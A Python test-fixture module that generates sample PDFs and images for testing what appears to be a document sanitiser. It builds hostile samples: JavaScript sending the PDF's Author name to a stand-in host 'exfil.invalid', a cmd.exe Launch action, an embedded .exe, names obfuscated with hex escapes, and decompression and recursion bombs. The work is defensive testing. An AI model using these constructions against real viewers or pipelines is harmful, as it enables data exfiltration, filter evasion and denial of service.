"""Test files made in code: real-world shapes and hostile ones, no binary fixtures.

PDF page marks: every page built here draws one black square whose centre is
MARK_CENTRE (in PDF points, origin bottom-left), so a test can tell that the
page's content survived conversion.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

import pikepdf
from PIL import Image, ImageCms, ImageDraw

A4 = (595, 842)
MIB = 1024 * 1024
MARK_CENTRE = (100, 750)
MARK_DRAWING = b"0 0 0 rg 50 700 100 100 re f"
RIGHT_MARK_CENTRE = (495, 750)
RIGHT_MARK_DRAWING = b"0 0 0 rg 445 700 100 100 re f"
SECRET_NAME = "Aigerim Zhusanova"
JS_SOURCE = b"app.launchURL('http://exfil.invalid/'+this.info.Author)"
PAYLOAD = b"MZ-PAYLOAD-7f3a9c21e5d4"


# ---------------------------------------------------------------- PDFs


def simple_pdf(path: Path, pages: int = 1) -> Path:
    """Plain pages with the black mark, as an office program writes them."""
    pdf = pikepdf.new()
    for _ in range(pages):
        _add_marked_page(pdf)
    pdf.save(path)
    return path


def _add_marked_page(pdf: pikepdf.Pdf, drawing: bytes = MARK_DRAWING) -> pikepdf.Page:
    pdf.add_blank_page(page_size=A4)
    page = pdf.pages[-1]
    page.Contents = pdf.make_stream(drawing)
    return page


def hostile_pdf(path: Path) -> Path:
    """Everything active or private a PDF can carry, with object streams."""
    pdf = pikepdf.new()
    page = _add_marked_page(pdf)
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(JS_SOURCE)))
    pdf.Root.OpenAction = script
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), script]))
    )
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename="invoice.exe")
    page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
    page.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://exfil.invalid/"))),
                _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://exfil.invalid/"))),
            ]
        )
    )
    _add_text_field(pdf, page)
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    _add_private_metadata(pdf)
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return path


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> pikepdf.Object:
    return pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[300, 100, 400, 150],
            A=action,
        )
    )


def _add_private_metadata(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Author"] = SECRET_NAME
    pdf.docinfo["/Title"] = "Passport scan"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [SECRET_NAME]


def form_pdf(path: Path) -> Path:
    """A filled-in form (what office programs export): the field's look is a black box."""
    pdf = pikepdf.new()
    page = _add_marked_page(pdf, b"")
    _add_text_field(pdf, page)
    pdf.save(path)
    return path


def _add_text_field(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
    """A text field whose appearance covers MARK's square, so a render shows it."""
    appearance = pdf.make_stream(MARK_DRAWING.replace(b"50 700", b"0 0"))
    appearance.Type = pikepdf.Name.XObject
    appearance.Subtype = pikepdf.Name.Form
    appearance.BBox = [0, 0, 100, 100]
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("surname"),
            V=pikepdf.String(SECRET_NAME),
            Rect=[50, 700, 150, 800],
            P=page.obj,
            AP=pikepdf.Dictionary(N=appearance),
            AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(JS_SOURCE))),
        )
    )
    annots = page.obj.get("/Annots", pikepdf.Array())
    annots.append(field)
    page.Annots = annots
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def encrypted_pdf(path: Path, *, user_password: str) -> Path:
    """Owner password always; a user password only when one is given."""
    pdf = pikepdf.new()
    _add_marked_page(pdf)
    encryption = pikepdf.Encryption(
        owner="registry-owner",
        user=user_password,
        allow=pikepdf.Permissions(extract=False, modify_other=False, print_highres=False),
    )
    pdf.save(path, encryption=encryption)
    return path


def jpx_pdf(path: Path) -> Path:
    """A page whose picture is JPEG 2000 (scanner software writes these)."""
    picture = io.BytesIO()
    Image.new("RGB", (200, 200), "black").save(picture, "JPEG2000")
    pdf = pikepdf.new()
    page = _add_marked_page(pdf, b"q 100 0 0 100 50 700 cm /Scan Do Q")
    image = pdf.make_stream(b"")
    image.write(picture.getvalue(), filter=pikepdf.Name.JPXDecode)
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width = image.Height = 200
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Scan=image))
    pdf.save(path)
    return path


def scanned_pdf(path: Path, *, pages: int, photo_side: int) -> Path:
    """A scanner's output: one noisy full-page JPEG per page (noise defeats compression)."""
    pdf = pikepdf.new()
    for number in range(pages):
        picture = io.BytesIO()
        Image.effect_noise((photo_side, round(photo_side * 1.414)), 60 + number).convert("RGB").save(
            picture, "JPEG", quality=92
        )
        page = _add_marked_page(pdf, b"q 595 0 0 842 0 0 cm /Scan Do Q")
        image = pdf.make_stream(b"")
        image.write(picture.getvalue(), filter=pikepdf.Name.DCTDecode)
        image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        image.Width, image.Height = photo_side, round(photo_side * 1.414)
        image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Scan=image))
    pdf.save(path)
    return path


def inflating_pdf(path: Path, side: int) -> Path:
    """A page with a side x side RGB picture of zeros: a few hundred KiB that inflate to side*side*3 bytes."""
    compressor, chunks = zlib.compressobj(9), []
    row = bytes(side * 3)
    for _ in range(side):
        chunks.append(compressor.compress(row))
    chunks.append(compressor.flush())
    pdf = pikepdf.new()
    page = _add_marked_page(pdf, b"q 595 0 0 842 0 0 cm /Scan Do Q")
    image = pdf.make_stream(b"")
    image.write(b"".join(chunks), filter=pikepdf.Name.FlateDecode)
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width = image.Height = side
    image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Scan=image))
    pdf.save(path)
    return path


def content_bomb_pdf(path: Path, mebibytes: int) -> Path:
    """A page whose drawing instructions inflate to `mebibytes` MiB of spaces (~1000:1)."""
    compressor, chunk = zlib.compressobj(6), b" " * MIB
    data = b"".join(compressor.compress(chunk) for _ in range(mebibytes)) + compressor.flush()
    pdf = pikepdf.new()
    page = _add_marked_page(pdf)
    page.Contents.write(data, filter=pikepdf.Name.FlateDecode)
    pdf.save(path)
    return path


def exponential_pdf(path: Path, depth: int) -> Path:
    """Each drawing calls the next one twice: 2**depth squares from a 2 KiB file."""
    pdf = pikepdf.new()
    page = _add_marked_page(pdf, b"/X Do")
    drawing = _form(pdf, b"0 0 0 rg 10 10 3 3 re f")
    for _ in range(depth):
        drawing = _form(pdf, b"q /X Do Q q 1 0 0 1 1 1 cm /X Do Q", calls=drawing)
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawing))
    pdf.save(path)
    return path


def shared_drawing_pdf(path: Path, *, pages: int = 500, rectangles: int = 300_000) -> Path:
    """Every page draws the same stream of tiny squares: 677 KiB that take minutes of CPU to draw
    (the stream is stored once, and drawn once per page)."""
    drawing = b"".join(b"%d %d 2 2 re f\n" % (n % 590, (n // 590) % 840) for n in range(rectangles))
    pdf = pikepdf.new()
    shared = pdf.make_stream(drawing)
    for _ in range(pages):
        pdf.add_blank_page(page_size=A4)
        pdf.pages[-1].Contents = shared
    pdf.save(path)
    return path


def book_scan_pdf(path: Path, *, pages: int) -> Path:
    """A book scanned at 300 dpi in grey, a full-page picture on every page. The pages share one picture
    to keep the test file small: pdfium decodes it for every page all the same."""
    side = (2480, 3508)  # A4 at 300 dpi
    picture = Image.new("L", side, 235)
    pen = ImageDraw.Draw(picture)
    for line in range(60):
        pen.rectangle((200, 250 + line * 50, 2200 - (line * 37) % 700, 270 + line * 50), fill=40)
    encoded = io.BytesIO()
    picture.save(encoded, "JPEG", quality=80)
    pdf = pikepdf.new()
    scan = pdf.make_stream(b"")
    scan.write(encoded.getvalue(), filter=pikepdf.Name.DCTDecode)
    scan.Type, scan.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    scan.Width, scan.Height = side
    scan.ColorSpace, scan.BitsPerComponent = pikepdf.Name.DeviceGray, 8
    for _ in range(pages):
        page = _add_marked_page(pdf, b"q 595 0 0 842 0 0 cm /Scan Do Q")
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Scan=scan))
    pdf.save(path)
    return path


def _form(pdf: pikepdf.Pdf, drawing: bytes, calls: pikepdf.Object | None = None) -> pikepdf.Object:
    form = pdf.make_stream(drawing, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, *A4])
    if calls is not None:
        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=calls))
    return form


# Hand-written PDFs: the only way to control bytes pikepdf would normalise
# (hex-escaped names) and to append an incremental update.


def raw_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A classic-xref PDF from numbered object bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = _append_objects(out, objects)
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets.get(number, 0) for number in range(1, size))
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at)
    return bytes(out)


def incremental_update(base: bytes, objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """Append new versions of objects, as a signing or annotating program does."""
    previous_xref = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.rsplit(b"/Size", 1)[1].split()[0])
    out = bytearray(base)
    offsets = _append_objects(out, objects)
    xref_at = len(out)
    out += b"xref\n"
    out += b"".join(b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in sorted(offsets.items()))
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, max(objects) + 1),
        root,
        previous_xref,
        xref_at,
    )
    return bytes(out)


def _append_objects(out: bytearray, objects: dict[int, bytes]) -> dict[int, int]:
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return offsets


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page_objects(contents: bytes, catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page_extra + b">>",
        4: stream(contents),
    }


def hex_escaped_pdf() -> bytes:
    """JavaScript, launch and an embedded file under names spelled with #xx escapes."""
    objects = one_page_objects(
        MARK_DRAWING,
        catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (" + JS_SOURCE + b") >> "
        b"/#4eames << /#45mbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
        page_extra=b"/#41A << /O << /S /#4C#61unch /F (cmd.exe) >> >> ",
    )
    objects[5] = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
    objects[6] = stream(PAYLOAD, b"/Type /#45mbeddedFile ")
    return raw_pdf(objects)


def updated_pdf() -> bytes:
    """Original page marked on the left; an incremental update moves the mark right."""
    base = raw_pdf(one_page_objects(MARK_DRAWING))
    return incremental_update(base, {4: stream(RIGHT_MARK_DRAWING)})


# ---------------------------------------------------------------- images


def sideways_gps_jpeg(path: Path) -> tuple[int, int]:
    """A phone photo stored sideways (EXIF orientation 6) with GPS, XMP, comment, ICC.

    Upright it is narrow and tall with a red band on top; returns the upright size.
    """
    upright = Image.new("RGB", (200, 400), "white")
    ImageDraw.Draw(upright).rectangle((0, 0, 199, 79), fill="red")
    stored = upright.transpose(Image.Transpose.ROTATE_90)  # what the sensor wrote
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (43.0, 14.0, 30.0), 3: "E", 4: (76.0, 55.0, 12.0)})
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>{SECRET_NAME}</dc:creator></x:xmpmeta>'
    stored.save(
        path,
        "JPEG",
        exif=exif,
        comment=SECRET_NAME.encode(),
        xmp=xmp.encode(),
        icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(),
    )
    return upright.size


def raw_png(path: Path, width: int, height: int, *, color_type: int, bit_depth: int, rows: Iterable[bytes]) -> Path:
    """A PNG written chunk by chunk, so huge or 16-bit images cost no memory to make."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(b"\x00" + row) for row in rows) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return path


def png_bomb(path: Path, side: int = 30000) -> Path:
    """side x side black-and-white PNG: ~100 KiB on disk, side² pixels in memory."""
    row = bytes((side + 7) // 8)
    return raw_png(path, side, side, color_type=0, bit_depth=1, rows=(row for _ in range(side)))


def sixteen_bit_rgb_png(path: Path) -> Path:
    """48-bit colour scan: left half mid-grey, right half white."""
    width, height = 64, 32
    half = b"\x80\x00" * 3 * (width // 2)
    row = half + b"\xff\xff" * 3 * (width // 2)
    return raw_png(path, width, height, color_type=2, bit_depth=16, rows=[row] * height)


def sixteen_bit_gray_png(path: Path) -> Path:
    image = Image.new("I;16", (64, 32), 0)
    ImageDraw.Draw(image).rectangle((32, 0, 63, 31), fill=65535)
    image.save(path, "PNG")
    return path


def cmyk_jpeg(path: Path) -> Path:
    Image.new("CMYK", (120, 80), (0, 255, 255, 0)).save(path, "JPEG")  # print red
    return path


def transparent_palette_png(path: Path) -> Path:
    """A logo-style palette image whose background is transparent."""
    image = Image.new("P", (40, 40), 0)
    image.putpalette([0, 0, 0, 0, 0, 255] + [0] * 762)
    ImageDraw.Draw(image).rectangle((10, 10, 29, 29), fill=1)
    image.save(path, "PNG", transparency=0)
    return path


def fax_tiff(path: Path, pages: int = 3) -> Path:
    """Multi-page 1-bit Group 4 fax TIFF, 204 x 196 dpi (pixels not square)."""
    frames = []
    for number in range(pages):
        frame = Image.new("1", (1728, 2200), 1)
        ImageDraw.Draw(frame).rectangle((100, 100 + 300 * number, 400, 400 + 300 * number), fill=0)
        frames.append(frame)
    frames[0].save(path, "TIFF", save_all=True, append_images=frames[1:], compression="group4", dpi=(204, 196))
    return path


def heic_photo(path: Path) -> Path:
    import pillow_heif

    pillow_heif.register_heif_opener()
    image = Image.new("RGB", (320, 240), "white")
    ImageDraw.Draw(image).rectangle((0, 0, 159, 239), fill="blue")
    image.save(path, "HEIF", quality=90)
    return path


# ---------------------------------------------------------------- not documents

HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/persons')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'


def windows_executable() -> bytes:
    """DOS stub plus PE32 header, as in every .exe."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B) + bytes(0xDE)
    return bytes(dos) + coff + optional + bytes(512)


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("passport.pdf", b"%PDF-1.4\n")
    return buffer.getvalue()
